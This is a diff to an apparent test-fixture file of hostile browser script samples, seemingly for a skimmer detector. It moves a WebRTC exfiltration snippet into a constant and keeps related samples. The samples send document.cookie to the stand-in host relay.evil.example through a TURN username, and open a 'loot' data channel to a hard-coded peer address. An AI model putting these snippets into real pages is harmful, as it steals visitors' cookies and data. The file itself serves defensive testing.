@@ -42,6 +42,19 @@ export const DELAYED_DISPATCH = `(() => {
 /** The inline script a helper inserts after its flood of inline scripts (its SHA-256 must be reported again). */
 export const AFTER_INLINE_FLOOD = 'window.__afterInlineFlood = true; /* helper payload */';
 
+/**
+ * Statements (in an async function) that connect `pc` to a peer hard-coded in the script, as 2026's WebRTC
+ * skimmers did: the peer's address is put into an answer a second connection in the page makes.
+ */
+export const HARD_CODED_PEER = `const pc = new RTCPeerConnection();
+  pc.createDataChannel('loot');
+  await pc.setLocalDescription(await pc.createOffer());
+  const answerer = new RTCPeerConnection();
+  await answerer.setRemoteDescription(pc.localDescription);
+  await answerer.setLocalDescription(await answerer.createAnswer());
+  const sdp = answerer.localDescription.sdp.replace(/(a=setup:\\w+)/, '$1\\r\\na=candidate:1 1 udp 2122260223 203.0.113.7 3479 typ host');
+  await pc.setRemoteDescription({ type: 'answer', sdp });`;
+
 export const MAIN_WORLD_SCRIPTS = {
   /** Loads its payload as blob: and data: scripts, which no site ships. */
   'blob-data': `(() => {
@@ -387,14 +400,7 @@ export const MAIN_WORLD_SCRIPTS = {
   const cookie = document.cookie;
   const Peer = window.webkitRTCPeerConnection || RTCPeerConnection;
   new Peer({ iceServers: [{ urls: 'turn:relay.evil.example:3478?transport=udp', username: encodeURIComponent(cookie).slice(0, 200), credential: 'x' }] });
-  const pc = new RTCPeerConnection();
-  pc.createDataChannel('loot');
-  await pc.setLocalDescription(await pc.createOffer());
-  const answerer = new RTCPeerConnection();
-  await answerer.setRemoteDescription(pc.localDescription);
-  await answerer.setLocalDescription(await answerer.createAnswer());
-  const sdp = answerer.localDescription.sdp.replace(/(a=setup:\\w+)/, '$1\\r\\na=candidate:1 1 udp 2122260223 203.0.113.7 3479 typ host');
-  await pc.setRemoteDescription({ type: 'answer', sdp });
+  ${HARD_CODED_PEER}
   await pc.addIceCandidate({ candidate: 'candidate:2 1 udp 2122260223 198.51.100.9 3479 typ host', sdpMid: '0' });
   const out = new RTCPeerConnection();
   const peer = new RTCPeerConnection();
